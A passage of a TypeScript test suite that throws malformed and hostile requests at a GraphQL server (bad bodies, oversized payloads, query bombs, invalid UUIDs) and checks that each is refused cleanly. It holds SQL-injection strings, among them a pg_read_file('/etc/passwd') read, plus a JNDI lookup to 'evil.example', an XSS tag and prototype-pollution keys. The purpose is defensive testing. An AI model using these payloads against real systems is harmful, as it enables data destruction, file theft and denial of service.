/**
 * Hostile and malformed requests against a real server: broken bodies and content types, oversized bodies
 * and websocket messages, query-shape attacks (deep, wide, alias and fragment bombs), malformed ids, cursors,
 * page sizes, enums and variables, SQL/JSON injection in every string argument, and forged credentials.
 *
 * Every refused request must answer with the right HTTP status (or websocket close code) and error code,
 * show nothing of the server's internals, store nothing, and leave the server answering normal requests.
 * Injection strings that are valid input are stored: they must come back byte for byte.
 */
import http from "node:http";
import { createHash, createHmac } from "node:crypto";
import WebSocket from "ws";
import { SignJWT, UnsecuredJWT } from "jose";
import { Role } from "../../src/modules/user/role.enum";
import { createTestApp, type GraphQLBody, type TestApp, type TestUser } from "../helpers/server";

/** Small, so oversized bodies are cheap to send, yet large enough for every query-shape attack below. */
const LIMIT = 65536;
const VIEWER = "{ viewer { id role } }";
const NIL_UUID = "00000000-0000-0000-0000-000000000000";

// ---------------------------------------------------------------------------------------------------------
// Shared helpers
// ---------------------------------------------------------------------------------------------------------

interface Res {
  status: number;
  text: string;
  json?: GraphQLBody & Record<string, unknown>;
  /** Strings the client sent, which the server may legitimately echo (stripped before the leak check). */
  sent: string[];
}

/** One request through node's http client: full control over method, headers, chunking and raw bytes. */
function send(
  target: TestApp,
  options: { method?: string; path?: string; headers?: Record<string, string>; body?: string | Buffer | string[]; sent?: string[] },
): Promise<Res> {
  const { method = "POST", path = "/graphql", headers = {}, body, sent = [] } = options;
  return new Promise((resolve, reject) => {
    const req = http.request({ host: "127.0.0.1", port: target.server.port, method, path, headers, agent: false }, (res) => {
      const chunks: Buffer[] = [];
      res.on("data", (chunk: Buffer) => chunks.push(chunk));
      res.on("end", () => {
        const text = Buffer.concat(chunks).toString("utf8");
        let json: Res["json"];
        try {
          json = JSON.parse(text);
        } catch {
          json = undefined;
        }
        resolve({ status: res.statusCode ?? 0, text, json, sent });
      });
      res.on("error", reject);
    });
    req.on("error", reject);
    for (const chunk of Array.isArray(body) ? body : body === undefined ? [] : [body]) req.write(chunk);
    req.end();
  });
}

/** Every string inside a value (bounded depth), for the echo allowance of the leak check. */
function stringsIn(value: unknown, depth = 0, into: string[] = []): string[] {
  if (depth > 40) return into;
  if (typeof value === "string") into.push(value);
  else if (Array.isArray(value)) for (const item of value) stringsIn(item, depth + 1, into);
  else if (value && typeof value === "object") {
    for (const [key, item] of Object.entries(value)) {
      into.push(key);
      stringsIn(item, depth + 1, into);
    }
  }
  return into;
}

const auth = (token?: string): Record<string, string> => (token ? { authorization: `Bearer ${token}` } : {});
const JSON_HEADERS = { "content-type": "application/json" };

/** POST /graphql with a JSON body. */
function gql(target: TestApp, query: string, variables?: Record<string, unknown>, token?: string, headers: Record<string, string> = {}): Promise<Res> {
  return send(target, {
    headers: { ...JSON_HEADERS, ...auth(token), ...headers },
    body: JSON.stringify({ query, variables }),
    sent: stringsIn(variables),
  });
}

/** The response text with every echo of what the client sent removed (raw, JSON-escaped once and twice). */
function withoutEchoes(text: string, sent: string[]): string {
  let result = text;
  const forms = (s: string) => {
    const once = JSON.stringify(s).slice(1, -1);
    const twice = JSON.stringify(once).slice(1, -1);
    return [twice, once, s];
  };
  for (const s of [...sent].sort((a, b) => b.length - a.length)) {
    if (s.length < 3) continue;
    for (const form of forms(s)) result = result.split(form).join("");
  }
  return result;
}

/** What must never reach a client: stack frames, SQL, driver messages, source paths. */
const INTERNALS =
  /\s{4}at |\bat .*\.(ts|js):\d|\.(ts|js):\d+|node_modules|\/src\/|stacktrace|select |insert into|update "|delete from|syntax error at or near|violates|relation "|invalid input syntax|invalid byte sequence|out of range for type|knex|objection|pglite|Maximum call stack/i;

/** The shared "no leak" assertion: the raw text shows nothing of the server's internals. */
function expectNoLeak(text: string, sent: string[] = []): void {
  const cleaned = withoutEchoes(text, sent);
  expect(cleaned).not.toMatch(INTERNALS);
  // A hidden error says only this; anything else under INTERNAL_SERVER_ERROR would be a leak.
  for (const match of cleaned.matchAll(/"message":"([^"]*)","extensions":\{"code":"INTERNAL_SERVER_ERROR"/g)) {
    expect(match[1]).toBe("Internal server error");
  }
}

/** A refusal: the status, the first error's code, no data, and no leak. */
function expectRefused(res: Res, status: number, code: string): void {
  expect({ status: res.status, code: res.json?.errors?.[0]?.extensions?.code }).toEqual({ status, code });
  expect(res.json?.data ?? null).toBeNull();
  expectNoLeak(res.text, res.sent);
}

const TABLES = ["users", "api_keys", "conversations", "messages", "transcripts", "metrics", "service_grants", "audit_logs", "system_configs"];

/** Row counts of every table, plus digests of the rows an update could change (titles, roles, settings). */
async function snapshot(target: TestApp): Promise<Record<string, unknown>> {
  const knex = target.database.db.knex;
  const result: Record<string, unknown> = {};
  for (const table of TABLES) result[table] = Number((await knex(table).count({ n: "*" }))[0].n);
  const digest = async (sql: string) => ((await knex.raw(sql)).rows[0] as { d: string | null }).d;
  result.conversationRows = await digest("select md5(string_agg(id || title || parameters::text || status, ',' order by id)) as d from conversations");
  result.userRows = await digest("select md5(string_agg(id || display_name || role || is_active::text, ',' order by id)) as d from users");
  result.configRows = await digest("select md5(string_agg(key || value::text || coalesce(description, ''), ',' order by key)) as d from system_configs");
  return result;
}

/** Passes when the app still answers an ordinary query for `user`. */
async function expectStillServes(target: TestApp, user: TestUser): Promise<void> {
  const res = await gql(target, "{ viewer { id } }", undefined, user.token);
  expect({ status: res.status, body: res.json }).toEqual({ status: 200, body: { data: { viewer: { id: user.user.id } } } });
}

/**
 * Runs a hostile request: afterwards nothing is stored or changed, every table still exists and the server
 * still answers `user`.
 */
async function leavesNoTrace(target: TestApp, user: TestUser, attack: () => Promise<void>): Promise<void> {
  const before = await snapshot(target);
  await attack();
  expect(await snapshot(target)).toEqual(before);
  await expectStillServes(target, user);
}

async function expectTablesExist(target: TestApp): Promise<void> {
  for (const table of TABLES) {
    const { rows } = await target.database.db.knex.raw("select to_regclass(?) as t", [table]);
    expect({ table, exists: rows[0].t !== null }).toEqual({ table, exists: true });
  }
}

/** A query `depth` field levels deep: conversation → messages → edges → node → conversation → … → a leaf. */
function deepInner(depth: number): string {
  const path = ["messages(first: 1)", "edges", "node", "conversation"];
  const fields = Array.from({ length: depth - 2 }, (_, i) => path[i % path.length]);
  const leaf = ({ "messages(first: 1)": "totalCount", edges: "cursor", node: "id", conversation: "id" } as Record<string, string>)[fields[fields.length - 1]];
  return fields.reduceRight((inner, field) => `${field} { ${inner} }`, leaf);
}
const deepQuery = (depth: number) => `query($id: UUID!) { conversation(id: $id) { ${deepInner(depth)} } }`;
/** `count` aliases of a 100-item connection: cheap to write, expensive to answer. */
const aliasBomb = (count: number, size = "100") =>
  `query${size === "$n" ? "($n: Int)" : ""} { ${Array.from({ length: count }, (_, i) => `c${i}: conversations(first: ${size}) { totalCount }`).join(" ")} }`;
/** F(n) spreads F(n-1) twice: 2^n copies of a field from a few hundred bytes. */
const fragmentBomb = (levels: number, type: string, leaf: string) =>
  [`fragment F0 on ${type} { ${leaf} }`, ...Array.from({ length: levels }, (_, i) => `fragment F${i + 1} on ${type} { ...F${i} ...F${i} }`)].join(" ");

const b64 = (value: string) => Buffer.from(value).toString("base64url");
const cursorOf = (keys: unknown) => b64(JSON.stringify(keys));

/** JSON text nested `depth` arrays deep (built as text: JSON.stringify of it would overflow the test's stack). */
const deepJsonText = (depth: number) => `{"a":${"[".repeat(depth)}${"]".repeat(depth)}}`;

/** SQL-injection strings: all valid text, to be stored as they are. */
const SQL_PAYLOADS = [
  "'; drop table users; --",
  "Robert'); DROP TABLE conversations;--",
  `" OR "1"="1`,
  "1' OR '1'='1' /*",
  "$1 ?? ? :name \\",
  "'); insert into api_keys (key_hash) values ('x'); --",
  "%' AND pg_sleep(0) IS NULL --",
  "\\'; select pg_read_file('/etc/passwd'); --",
];
/** JSON-injection and other awkward strings. */
const JSON_PAYLOADS = [
  `","role":"ADMIN","x":"`,
  `{"$ne": null}`,
  "\\u0000 is a backslash, not a NUL",
  "</script><script>alert(1)</script>\u2028\u2029",
  "Ünïcødé 👩‍💻 \u202e RTL",
  "${jndi:ldap://evil.example/a}",
];
const PAYLOADS = [...SQL_PAYLOADS, ...JSON_PAYLOADS];
/** The payloads without the literal backslash-u-0000 text, which has its own test for JSON arguments. */
const JSON_SAFE_PAYLOADS = PAYLOADS.filter((payload) => !payload.includes("\\u0000"));
/** A JSON object full of hostile keys and values (JSON.parse makes `__proto__` an own key, as a client's body would). */
const JSON_OBJECT_PAYLOAD: Record<string, unknown> = JSON.parse(
  JSON.stringify({
    PROTO: { isAdmin: true },
    constructor: { prototype: { role: "ADMIN" } },
    "'; drop table messages; --": "$1 ?? ?",
    'a"b': [`"}], "role": "ADMIN`, { $ne: null, $where: "1 == 1" }],
    "\u2028": "</script>",
    nested: { "k'": [1, -0.5, 1e300, true, null], "\\": "\\\\" },
  }).replace('"PROTO"', '"__proto__"'),
);

/** Everything the injection tests store, which read-backs may show. */
const STORED = [...PAYLOADS, ...stringsIn(JSON_OBJECT_PAYLOAD)];

// ---------------------------------------------------------------------------------------------------------
// Minimal graphql-ws client over `ws`, for close codes and message-level control
// ---------------------------------------------------------------------------------------------------------

interface WsSession {
  ws: WebSocket;
  closed: Promise<{ code: number; reason: string }>;
  opened: Promise<void>;
  send(message: unknown): void;
  /** The next message from the server; rejects if the socket closes first. */
  next(): Promise<any>;
}

const sockets: WebSocket[] = [];

function openWs(target: TestApp): WsSession {
  const ws = new WebSocket(`${target.url.replace("http", "ws")}/graphql`, "graphql-transport-ws");
  sockets.push(ws);
  const inbox: any[] = [];
  let waiting: ((message: any) => void) | undefined;
  ws.on("message", (data) => {
    const message = JSON.parse(String(data));
    if (waiting) {
      const resolve = waiting;
      waiting = undefined;
      resolve(message);
    } else inbox.push(message);
  });
  ws.on("error", () => undefined); // the close event reports what matters
  const closed = new Promise<{ code: number; reason: string }>((resolve) => ws.on("close", (code, reason) => resolve({ code, reason: String(reason) })));
  const opened = new Promise<void>((resolve) => ws.on("open", () => resolve()));
  return {
    ws,
    closed,
    opened,
    send: (message) => ws.send(typeof message === "string" ? message : JSON.stringify(message)),
    next: () =>
      inbox.length
        ? Promise.resolve(inbox.shift())
        : Promise.race([
            new Promise((resolve) => (waiting = resolve)),
            closed.then((c) => Promise.reject(new Error(`socket closed ${c.code} ${c.reason}`))),
          ]),
  };
}

/** An acknowledged graphql-ws connection for `token`. */
async function wsConnect(target: TestApp, token: string): Promise<WsSession> {
  const session = openWs(target);
  await session.opened;
  session.send({ type: "connection_init", payload: { authorization: `Bearer ${token}` } });
  expect(await session.next()).toEqual({ type: "connection_ack" });
  return session;
}

/** One operation over a fresh connection: its `next` payloads and its `error` payload, if any. */
async function wsRun(target: TestApp, token: string, query: string, variables?: Record<string, unknown>) {
  const session = await wsConnect(target, token);
  session.send({ id: "1", type: "subscribe", payload: { query, variables } });
  const results: any[] = [];
  let error: any[] | undefined;
  for (;;) {
    const message = await session.next();
    if (message.type === "next") results.push(message.payload);
    else if (message.type === "error") {
      error = message.payload;
      break;
    } else if (message.type === "complete") break;
  }
  session.ws.close();
  return { results, error, raw: JSON.stringify({ results, error }) };
}

// ---------------------------------------------------------------------------------------------------------
// The server under attack
// ---------------------------------------------------------------------------------------------------------

let app: TestApp;
let member: TestUser; // owns `conversationId`
let other: TestUser;
let admin: TestUser;
let service: TestUser;
let conversationId: string;
let messageId: string;

beforeAll(async () => {
  // Development mode: the mode most tempted to show details; it must show none either.
  app = await createTestApp({ NODE_ENV: "development", MAX_BODY_BYTES: String(LIMIT) });
  member = await app.makeUser(Role.MEMBER, "Mallory");
  other = await app.makeUser(Role.MEMBER, "Other");
  admin = await app.makeUser(Role.ADMIN, "Root");
  service = await app.makeUser(Role.SERVICE, "Bot");
  const created = await app.ok(`mutation { createConversation(input: { title: "seed" }) { id } }`, {}, member.token);
  conversationId = created.createConversation.id;
  const added = await app.ok(`mutation($c: UUID!) { addMessage(input: { conversationId: $c, content: "hello" }) { id } }`, { c: conversationId }, member.token);
  messageId = added.addMessage.id;
  await app.ok(`mutation { recordMetrics(input: [{ clientBotId: "seed-bot", metricType: "latency" }]) }`, {}, service.token);
});
afterAll(async () => {
  for (const socket of sockets) socket.terminate();
  await app?.dispose();
});

// ---------------------------------------------------------------------------------------------------------

describe("bad JSON bodies", () => {
  const mutationBody = JSON.stringify({ query: `mutation { createConversation(input: { title: "smuggled" }) { id } }` });

  it.each([
    ["truncated JSON", mutationBody.slice(0, -1)],
    ["trailing garbage after the object", `${mutationBody} trailing`],
    ["single-quoted keys", `{'query':'mutation { createConversation(input: {}) { id } }'}`],
    ["a byte-order mark before the object", `\ufeff${mutationBody}`],
    ["a NaN literal in variables", `{"query":"mutation($n: Int) { createConversation(input: {}) { id } }","variables":{"n":NaN}}`],
    ["a form-encoded body sent as JSON", `query=${encodeURIComponent("mutation { createConversation(input: {}) { id } }")}`],
    ["JSON null", "null"],
    ["a JSON string", `"mutation { createConversation(input: {}) { id } }"`],
    ["a JSON number", "123"],
    ["an empty object", "{}"],
    ["an empty body", ""],
    ["an empty batch", "[]"],
    ["a batch of operations (batching is off)", `[${mutationBody},${mutationBody}]`],
    ["a non-string query", `{"query":5}`],
    ["a null query", `{"query":null}`],
    ["variables as a JSON-encoded string", JSON.stringify({ query: "mutation($t: String) { createConversation(input: { title: $t }) { id } }", variables: '{"t":"x"}' })],
    ["variables as an array", JSON.stringify({ query: "mutation { createConversation(input: {}) { id } }", variables: [1] })],
    ["a non-string operationName", JSON.stringify({ query: "mutation { createConversation(input: {}) { id } }", operationName: 5 })],
  ])("refuses %s with 400 BAD_REQUEST", (_case, body) =>
    leavesNoTrace(app, member, async () => {
      const res = await send(app, { headers: { ...JSON_HEADERS, ...auth(member.token) }, body });
      expectRefused(res, 400, "BAD_REQUEST");
    }),
  );

  it("takes the last of duplicate keys, and refuses it if it is invalid (400 GRAPHQL_VALIDATION_FAILED)", () =>
    leavesNoTrace(app, member, async () => {
      const body = `{"query":"mutation { createConversation(input: {}) { id } }","query":"mutation { dropEverything }"}`;
      expectRefused(await send(app, { headers: { ...JSON_HEADERS, ...auth(member.token) }, body }), 400, "GRAPHQL_VALIDATION_FAILED");
    }),
  );

  it("refuses invalid UTF-8 bytes in the query with 400 GRAPHQL_PARSE_FAILED", () =>
    leavesNoTrace(app, member, async () => {
      const body = Buffer.concat([Buffer.from('{"query":"mutation { createConversation(input: {}) { id } }'), Buffer.from([0xff, 0xfe]), Buffer.from('"}')]);
      expectRefused(await send(app, { headers: { ...JSON_HEADERS, ...auth(member.token) }, body }), 400, "GRAPHQL_PARSE_FAILED");
    }),
  );

  it("refuses GET variables that are not JSON with 400 BAD_REQUEST", () =>
    leavesNoTrace(app, member, async () => {
      const path = `/graphql?query=${encodeURIComponent("query($id: UUID!) { conversation(id: $id) { id } }")}&variables=${encodeURIComponent("{id:")}`;
      expectRefused(await send(app, { method: "GET", path, headers: { ...JSON_HEADERS, ...auth(member.token) } }), 400, "BAD_REQUEST");
    }),
  );

  // A client's mistake in the persisted-query extension is a bad request, not an internal error.
  it.each([
    ["a hash that does not match the query", { version: 1, sha256Hash: "0".repeat(64) }],
    ["an unsupported persisted-query version", { version: 99, sha256Hash: "0".repeat(64) }],
  ])("refuses %s with 400 BAD_REQUEST", (_case, persistedQuery) =>
    leavesNoTrace(app, member, async () => {
      const body = JSON.stringify({ query: "mutation { createConversation(input: {}) { id } }", extensions: { persistedQuery } });
      expectRefused(await send(app, { headers: { ...JSON_HEADERS, ...auth(member.token) }, body }), 400, "BAD_REQUEST");
    }),
  );

  it("answers an unknown persisted-query hash with PERSISTED_QUERY_NOT_FOUND", () =>
    leavesNoTrace(app, member, async () => {
      const body = JSON.stringify({ extensions: { persistedQuery: { version: 1, sha256Hash: "f".repeat(64) } } });
      expectRefused(await send(app, { headers: { ...JSON_HEADERS, ...auth(member.token) }, body }), 200, "PERSISTED_QUERY_NOT_FOUND");
    }),
  );
});

// ---------------------------------------------------------------------------------------------------------

describe("wrong content types and methods", () => {
  const body = JSON.stringify({ query: `mutation { createConversation(input: { title: "csrf" }) { id } }` });

  // None of these may run the mutation: the simple ones are CSRF-prone, the others are not GraphQL requests.
  it.each([
    ["text/plain", {}],
    ["application/x-www-form-urlencoded", {}],
    ["multipart/form-data; boundary=x", {}],
    ["no content-type at all", {}],
    ["text/plain with apollo-require-preflight", { "apollo-require-preflight": "true" }],
    ["application/graphql", {}],
    ["application/xml", {}],
    ["text/html", {}],
    ["application/jsonx", {}],
  ])("refuses a POST with %s with 400 BAD_REQUEST", (contentType, extra) =>
    leavesNoTrace(app, member, async () => {
      const type = contentType.replace(" with apollo-require-preflight", "");
      const headers: Record<string, string> = { ...auth(member.token), ...(extra as Record<string, string>) };
      if (type !== "no content-type at all") headers["content-type"] = type;
      expectRefused(await send(app, { headers, body }), 400, "BAD_REQUEST");
    }),
  );

  it.each(["PUT", "DELETE", "PATCH"])("refuses %s /graphql with 405 METHOD_NOT_ALLOWED", (method) =>
    leavesNoTrace(app, member, async () => {
      expectRefused(await send(app, { method, headers: { ...JSON_HEADERS, ...auth(member.token) }, body }), 405, "METHOD_NOT_ALLOWED");
    }),
  );

  it("refuses a mutation sent by GET with 405", () =>
    leavesNoTrace(app, member, async () => {
      const path = `/graphql?query=${encodeURIComponent(`mutation { createConversation(input: { title: "get" }) { id } }`)}`;
      const res = await send(app, { method: "GET", path, headers: { ...JSON_HEADERS, ...auth(member.token) } });
      expectRefused(res, 405, "BAD_REQUEST");
    }),
  );
});

// ---------------------------------------------------------------------------------------------------------

describe("bodies over MAX_BODY_BYTES", () => {
  const mutation = `mutation($t: String) { createConversation(input: { title: $t }) { id } }`;
  const padded = (size: number) => {
    const base = JSON.stringify({ query: mutation, variables: { t: "" } });
    return JSON.stringify({ query: mutation, variables: { t: "x".repeat(size - base.length) } });
  };

  it("accepts a body of exactly MAX_BODY_BYTES (the limit is not off by one)", async () => {
    // The title is too long for a conversation, so even this accepted body stores nothing.
    const body = padded(LIMIT);
    expect(Buffer.byteLength(body)).toBe(LIMIT);
    await leavesNoTrace(app, member, async () => {
      const res = await send(app, { headers: { ...JSON_HEADERS, ...auth(member.token) }, body });
      expect(res.status).toBe(200);
      expect(res.json?.errors?.[0].extensions?.code).toBe("BAD_USER_INPUT");
      expectNoLeak(res.text);
    });
  });

  it.each([
    ["one byte over the limit", () => ({ body: padded(LIMIT + 1) })],
    ["a 1 MiB body", () => ({ body: padded(1024 * 1024) })],
    ["a chunked body without content-length", () => ({ body: Array.from({ length: 80 }, (_, i) => (i === 0 ? padded(1024).slice(0, -3) : "x".repeat(1024))), headers: { "transfer-encoding": "chunked" } })],
    ["a huge query document", () => ({ body: JSON.stringify({ query: `mutation { createConversation(input: { title: "${"y".repeat(LIMIT)}" }) { id } }` }) })],
    [
      "a huge variables object (a metrics batch)",
      () => ({
        body: JSON.stringify({
          query: "mutation($m: [MetricInput!]!) { recordMetrics(input: $m) }",
          variables: { m: Array.from({ length: 2000 }, (_, i) => ({ clientBotId: `bot-${i}`, metricType: "flood" })) },
        }),
      }),
    ],
    ["a declared content-length over the limit", () => ({ body: padded(LIMIT * 2), headers: { "content-length": String(LIMIT * 2) } })],
  ])("refuses %s with 413 PAYLOAD_TOO_LARGE", (_case, make) =>
    leavesNoTrace(app, member, async () => {
      const { body, headers = {} } = make() as { body: string | string[]; headers?: Record<string, string> };
      const token = body.includes("recordMetrics") ? service.token : member.token;
      const res = await send(app, { headers: { ...JSON_HEADERS, ...auth(token), ...headers }, body });
      expectRefused(res, 413, "PAYLOAD_TOO_LARGE");
    }),
  );
});

// ---------------------------------------------------------------------------------------------------------

describe("deep queries", () => {
  it.each([13, 40, 200])("refuses a query %i levels deep with 400 QUERY_TOO_DEEP", (depth) =>
    leavesNoTrace(app, member, async () => {
      const res = await gql(app, deepQuery(depth), { id: conversationId }, member.token);
      expectRefused(res, 400, "QUERY_TOO_DEEP");
      expect(res.json?.errors?.[0].extensions).toEqual({ code: "QUERY_TOO_DEEP", depth, maxDepth: 12 });
    }),
  );

  it("refuses depth built from a chain of fragments", () =>
    leavesNoTrace(app, member, async () => {
      const fragments = Array.from(
        { length: 4 },
        (_, i) => `fragment D${i} on Conversation { messages(first: 1) { edges { node { conversation { ${i < 3 ? `...D${i + 1}` : "id"} } } } } }`,
      ).join(" ");
      const res = await gql(app, `query($id: UUID!) { conversation(id: $id) { ...D0 } } ${fragments}`, { id: conversationId }, member.token);
      expectRefused(res, 400, "QUERY_TOO_DEEP");
    }),
  );

  it("refuses depth hidden in inline fragments", () =>
    leavesNoTrace(app, member, async () => {
      const level = (inner: string) => `messages(first: 1) { edges { ... on MessageEdge { node { ... on Message { conversation { ${inner} } } } } } }`;
      const res = await gql(app, `query($id: UUID!) { conversation(id: $id) { ${level(level(level(level("id"))))} } }`, { id: conversationId }, member.token);
      expectRefused(res, 400, "QUERY_TOO_DEEP");
    }),
  );

  it("refuses a too-deep selection on a mutation without running the mutation", () =>
    leavesNoTrace(app, member, async () => {
      const res = await gql(app, `mutation { createConversation(input: { title: "deep" }) { ${deepInner(30)} } }`, undefined, member.token);
      expectRefused(res, 400, "QUERY_TOO_DEEP");
    }),
  );

  it("refuses 1500 levels of unknown fields with 400 GRAPHQL_VALIDATION_FAILED", () =>
    leavesNoTrace(app, member, async () => {
      const res = await gql(app, `{ ${"a { ".repeat(1500)}b${" }".repeat(1500)} }`, undefined, member.token);
      expectRefused(res, 400, "GRAPHQL_VALIDATION_FAILED");
    }),
  );

  it("refuses a deeply nested list literal in an argument with 400 GRAPHQL_VALIDATION_FAILED", () =>
    leavesNoTrace(app, member, async () => {
      const res = await gql(app, `{ conversations(filter: { status: ${"[".repeat(1500)}ACTIVE${"]".repeat(1500)} }) { totalCount } }`, undefined, member.token);
      expectRefused(res, 400, "GRAPHQL_VALIDATION_FAILED");
    }),
  );
});

// ---------------------------------------------------------------------------------------------------------

describe("wide queries", () => {
  it("refuses more than MAX_QUERY_TOKENS tokens with 400 GRAPHQL_PARSE_FAILED", () =>
    leavesNoTrace(app, member, async () => {
      expectRefused(await gql(app, `{ viewer { ${"id ".repeat(5000)} } }`, undefined, member.token), 400, "GRAPHQL_PARSE_FAILED");
    }),
  );

  it("refuses a token-flood mutation without running it", () =>
    leavesNoTrace(app, member, async () => {
      const res = await gql(app, `mutation { createConversation(input: { title: "wide" }) { ${"id ".repeat(5000)} } }`, undefined, member.token);
      expectRefused(res, 400, "GRAPHQL_PARSE_FAILED");
    }),
  );

  it("refuses 100 unpaged connections (default page size each) with 400 QUERY_TOO_COMPLEX", () =>
    leavesNoTrace(app, member, async () => {
      const query = `{ ${Array.from({ length: 100 }, (_, i) => `c${i}: conversations { totalCount }`).join(" ")} }`;
      expectRefused(await gql(app, query, undefined, member.token), 400, "QUERY_TOO_COMPLEX");
    }),
  );

  it("refuses 1000 declared but unused variables with 400 GRAPHQL_VALIDATION_FAILED", () =>
    leavesNoTrace(app, member, async () => {
      const query = `query(${Array.from({ length: 1000 }, (_, i) => `$v${i}: Int`).join(" ")}) { viewer { id } }`;
      expectRefused(await gql(app, query, undefined, member.token), 400, "GRAPHQL_VALIDATION_FAILED");
    }),
  );

  it("refuses a repeated non-repeatable directive with 400 GRAPHQL_VALIDATION_FAILED", () =>
    leavesNoTrace(app, member, async () => {
      const query = `{ viewer { id ${"@include(if: true) ".repeat(300)} } }`;
      expectRefused(await gql(app, query, undefined, member.token), 400, "GRAPHQL_VALIDATION_FAILED");
    }),
  );

  it("refuses many operations without an operationName with 400 OPERATION_RESOLUTION_FAILURE", () =>
    leavesNoTrace(app, member, async () => {
      const query = Array.from({ length: 200 }, (_, i) => `mutation M${i} { createConversation(input: {}) { id } }`).join(" ");
      expectRefused(await gql(app, query, undefined, member.token), 400, "OPERATION_RESOLUTION_FAILURE");
    }),
  );

  it("refuses an operationName that names no operation with 400 OPERATION_RESOLUTION_FAILURE", () =>
    leavesNoTrace(app, member, async () => {
      const body = JSON.stringify({ query: "mutation A { createConversation(input: {}) { id } }", operationName: "'; drop table users; --" });
      expectRefused(await send(app, { headers: { ...JSON_HEADERS, ...auth(member.token) }, body, sent: ["'; drop table users; --"] }), 400, "OPERATION_RESOLUTION_FAILURE");
    }),
  );
});

// ---------------------------------------------------------------------------------------------------------

describe("alias bombs", () => {
  it("refuses 60 aliases of a 100-item connection with 400 QUERY_TOO_COMPLEX", () =>
    leavesNoTrace(app, member, async () => {
      const res = await gql(app, aliasBomb(60), undefined, member.token);
      expectRefused(res, 400, "QUERY_TOO_COMPLEX");
      expect(res.json?.errors?.[0].extensions).toEqual({ code: "QUERY_TOO_COMPLEX", complexity: 6060, maxComplexity: 5000 });
    }),
  );

  it("refuses the same bomb with the page size in a variable", () =>
    leavesNoTrace(app, member, async () => {
      expectRefused(await gql(app, aliasBomb(60, "$n"), { n: 100 }, member.token), 400, "QUERY_TOO_COMPLEX");
    }),
  );

  it("refuses aliases of nested 100-item pages", () =>
    leavesNoTrace(app, member, async () => {
      const query = `{ ${Array.from({ length: 3 }, (_, i) => `c${i}: conversations(first: 100) { edges { node { messages(first: 100) { edges { node { id content } } } } } }`).join(" ")} }`;
      expectRefused(await gql(app, query, undefined, member.token), 400, "QUERY_TOO_COMPLEX");
    }),
  );

  it("refuses 2000 aliases of viewer (too many tokens) with 400 GRAPHQL_PARSE_FAILED", () =>
    leavesNoTrace(app, member, async () => {
      const query = `{ ${Array.from({ length: 2000 }, (_, i) => `v${i}: viewer { id }`).join(" ")} }`;
      expectRefused(await gql(app, query, undefined, member.token), 400, "GRAPHQL_PARSE_FAILED");
    }),
  );

  it("refuses one alias used for two different fields with 400 GRAPHQL_VALIDATION_FAILED", () =>
    leavesNoTrace(app, member, async () => {
      expectRefused(await gql(app, "{ a: viewer { id } a: conversations { totalCount } }", undefined, member.token), 400, "GRAPHQL_VALIDATION_FAILED");
    }),
  );

  it("refuses a mutation alias bomb as a whole: no alias runs", () =>
    leavesNoTrace(app, member, async () => {
      const query = `mutation { ${Array.from({ length: 60 }, (_, i) => `m${i}: createConversation(input: { title: "bomb" }) { messages(first: 100) { totalCount } }`).join(" ")} }`;
      expectRefused(await gql(app, query, undefined, member.token), 400, "TOO_MANY_MUTATIONS");
    }),
  );

  it("refuses aliased recordMetrics calls that would together pass MAX_METRICS_BATCH", () =>
    leavesNoTrace(app, member, async () => {
      const metrics = Array.from({ length: 5 }, () => ({ clientBotId: "bot", metricType: "t" }));
      const query = `mutation($m: [MetricInput!]!) { ${Array.from({ length: 11 }, (_, i) => `r${i}: recordMetrics(input: $m)`).join(" ")} }`;
      expectRefused(await gql(app, query, { m: metrics }, member.token), 400, "TOO_MANY_MUTATIONS");
    }),
  );
});

// ---------------------------------------------------------------------------------------------------------

describe("fragment bombs", () => {
  it.each([16, 40])("refuses fragments doubling %i times with 400 QUERY_TOO_COMPLEX", (levels) =>
    leavesNoTrace(app, member, async () => {
      const res = await gql(app, `{ viewer { ...F${levels} } } ${fragmentBomb(levels, "User", "id")}`, undefined, member.token);
      expectRefused(res, 400, "QUERY_TOO_COMPLEX");
    }),
  );

  it("refuses a fragment bomb on a mutation without running it", () =>
    leavesNoTrace(app, member, async () => {
      const res = await gql(app, `mutation { createConversation(input: { title: "frag" }) { ...F30 } } ${fragmentBomb(30, "Conversation", "id")}`, undefined, member.token);
      expectRefused(res, 400, "QUERY_TOO_COMPLEX");
    }),
  );

  it.each([
    ["a cycle of fragments", "{ viewer { ...A } } fragment A on User { id ...B } fragment B on User { displayName ...A }"],
    ["a fragment spreading itself", "{ viewer { ...A } } fragment A on User { id ...A }"],
    ["an unknown fragment", "{ viewer { ...Nope } }"],
    ["an unused fragment", "{ viewer { id } } fragment Unused on User { id }"],
    ["a fragment on the wrong type", "{ viewer { ...C } } fragment C on Conversation { title }"],
    ["a fragment on an unknown type", "{ viewer { ...C } } fragment C on Nope { id }"],
  ])("refuses %s with 400 GRAPHQL_VALIDATION_FAILED", (_case, query) =>
    leavesNoTrace(app, member, async () => {
      expectRefused(await gql(app, query, undefined, member.token), 400, "GRAPHQL_VALIDATION_FAILED");
    }),
  );
});

// ---------------------------------------------------------------------------------------------------------

describe("invalid UUIDs", () => {
  const BAD_UUIDS: unknown[] = [
    "not-a-uuid",
    "'; drop table users; --",
    "",
    "00000000-0000-0000-0000-00000000000g",
    "123e4567-e89b-12d3-a456-42661417400",
    "123e4567e89b12d3a456426614174000",
    "{123e4567-e89b-12d3-a456-426614174000",
    " 123e4567-e89b-12d3-a456-426614174000",
    "123e4567-e89b-12d3-a456-426614174000' or '1'='1",
    42,
    { $ne: null },
    ["123e4567-e89b-12d3-a456-426614174000"],
  ];

  /** Every UUID argument of the schema: [where, query with $v, token]. */
  const UUID_ARGUMENTS: [string, string, () => string][] = [
    ["conversation(id)", "query($v: UUID!) { conversation(id: $v) { id } }", () => member.token],
    ["message(id)", "query($v: UUID!) { message(id: $v) { id } }", () => member.token],
    ["transcript(id)", "query($v: UUID!) { transcript(id: $v) { id } }", () => member.token],
    ["updateConversation(id)", `mutation($v: UUID!) { updateConversation(id: $v, input: { title: "x" }) { id } }`, () => member.token],
    ["archiveConversation(id)", "mutation($v: UUID!) { archiveConversation(id: $v) { id } }", () => member.token],
    ["deleteConversation(id)", "mutation($v: UUID!) { deleteConversation(id: $v) }", () => member.token],
    ["revokeApiKey(id)", "mutation($v: UUID!) { revokeApiKey(id: $v) { id } }", () => member.token],
    ["deactivateUser(id)", "mutation($v: UUID!) { deactivateUser(id: $v) { id } }", () => admin.token],
    ["reactivateUser(id)", "mutation($v: UUID!) { reactivateUser(id: $v) { id } }", () => admin.token],
    ["setUserRole(id)", "mutation($v: UUID!) { setUserRole(id: $v, role: ADMIN) { id } }", () => admin.token],
